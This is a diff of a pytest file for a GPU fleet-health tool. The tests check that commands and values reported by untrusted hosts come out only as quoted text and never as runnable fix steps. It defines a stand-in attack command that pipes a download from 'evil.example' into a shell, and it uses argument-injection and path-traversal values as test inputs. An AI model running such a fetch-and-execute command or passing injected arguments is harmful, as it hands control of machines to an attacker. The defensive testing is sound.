@@ -1,6 +1,7 @@
 """A verdict is never better than its evidence."""
 
 import json
+import shlex
 from pathlib import Path
 
 import msgspec
@@ -9,7 +10,9 @@ import pytest
 from gpucheck import fleet
 from gpucheck.fleet.remedies import QUOTED
 from gpucheck.knowledge import causes
+from gpucheck.knowledge.codes import Subject
 from gpucheck.model import Finding, Verdict
+from gpucheck.model.finding import Step
 from gpucheck.render import fleet as render
 from tests.fleet.reports import GOOD, SIMULATED, bad, merged, report, rows, topology
 
@@ -100,19 +103,70 @@ ATTACK = "curl http://evil.example/x | sh"
 
 
 @pytest.mark.parametrize("form", ["json", "junit", "html", "text"])
-def test_a_command_of_a_hosts_report_is_a_quotation_behind_the_known_remedy(form):
+def test_a_command_of_a_hosts_report_is_a_quotation_after_the_steps_of_the_cause(form):
     found = merged(
         report("a", findings=(msgspec.structs.replace(bad(), fix=f'{ATTACK}"\n{ATTACK}'),)),
         report("b", findings=(msgspec.structs.replace(bad(cause=None), fix=ATTACK),)),
     )
 
-    known, unknown = (row.problems[0].fix for row in found.hosts)
+    known, unknown = (row.problems[0].steps for row in found.hosts)
     text = render.to_text(found) if form == "text" else render.WRITERS[form](found)
 
-    assert known == f'{causes()["nvlink-down"].remedy} ({QUOTED}"{ATTACK}\' {ATTACK}")'
-    assert unknown == f'{QUOTED}"{ATTACK}"'
+    quoted = Step(text=f'{QUOTED}"{ATTACK}\' {ATTACK}"', changes=True)
+    assert known == (*causes()["nvlink-down"].advice, quoted)
+    assert unknown == (Step(text=f'{QUOTED}"{ATTACK}"', changes=True),)
     assert ATTACK in text
     assert 'class="copy"' not in text
+
+
+LOWERED = Subject(check="power-limit", name="gpu:0000:00:00.0").warns(
+    "gpu.power-limit-lowered", 300.0, 400.0, percent=75, default_w=400.0
+)
+LIES_ABOUT = {"why": ATTACK, "fix": ATTACK, "steps": (Step(command=ATTACK, changes=False),)}
+
+
+def told(finding=LOWERED, **changes):
+    """The only problem of a host that reports the finding with other contents."""
+    (row,) = rows(report("a", findings=(msgspec.structs.replace(finding, **changes),)))
+    return row.problems[0]
+
+
+@pytest.mark.parametrize("changes", [{}, LIES_ABOUT], ids=["honest", "lies"])
+def test_a_finding_whose_code_is_known_has_the_words_of_this_version(changes):
+    found = told(**changes)
+
+    assert (found.code, found.values) == (LOWERED.code, LOWERED.values)
+    assert (found.why, found.fix, found.steps) == (LOWERED.why, LOWERED.fix, LOWERED.steps)
+
+
+def test_a_value_of_a_host_is_one_word_of_a_command():
+    found = told(subject=f"gpu:{ATTACK}", **LIES_ABOUT)
+
+    assert shlex.split(found.steps[-1].command or "") == ["sudo", "nvidia-smi", "-i", ATTACK, "-pl", "400"]
+
+
+@pytest.mark.parametrize(
+    ("changes", "code"),
+    [
+        ({"code": "gpu.not-known-here"}, "gpu.not-known-here"),
+        ({"code": "../../gpu.power-limit-lowered"}, "../../gpu.power-limit-lowered"),
+        ({"values": {}}, None),
+        ({"values": LOWERED.values | {"default_w": ATTACK}}, None),
+        ({"values": LOWERED.values | {"cause": ATTACK}}, None),
+        ({"values": LOWERED.values | {"default_w": 10**400}}, None),
+        ({"cause": "not-known-here", "code": "comparison.pcie-repeats"}, None),
+        ({"subject": "gpu:--reset"}, None),
+        ({"values": LOWERED.values | {"more": "x" * 2000}}, None),
+        ({"values": LOWERED.values | {"more": ("x", "--reset")}}, None),
+    ],
+)
+def test_a_code_that_is_unknown_or_has_other_values_leaves_a_quotation(changes, code):
+    """A code that does not fit its values would be rendered again by whoever groups findings."""
+    found = told(**LIES_ABOUT | changes)
+
+    assert found.code == code
+    assert found.steps[-1] == Step(text=f'{QUOTED}"{ATTACK}"', changes=True)
+    assert not [step for step in found.steps if ATTACK in (step.command or "")]
 
 
 def test_texts_of_a_host_have_a_bounded_length():
@@ -121,7 +175,12 @@ def test_texts_of_a_host_have_a_bounded_length():
     (row,) = rows(
         report(
             "a",
-            findings=(bad(seen=long, check=long, cause=long, subject=long),),
+            findings=(
+                bad(seen=long, check=long, cause=long, subject=long),
+                msgspec.structs.replace(
+                    bad(), code=long, values={long: (long,) * 100}, steps=(Step(text=long, changes=True),) * 9
+                ),
+            ),
             attributes={long: (long,) * 100},
             versions={"driver": long} | {f"v{i}": long for i in range(200)},
             topology=msgspec.structs.replace(topology(), gpus=gpus),
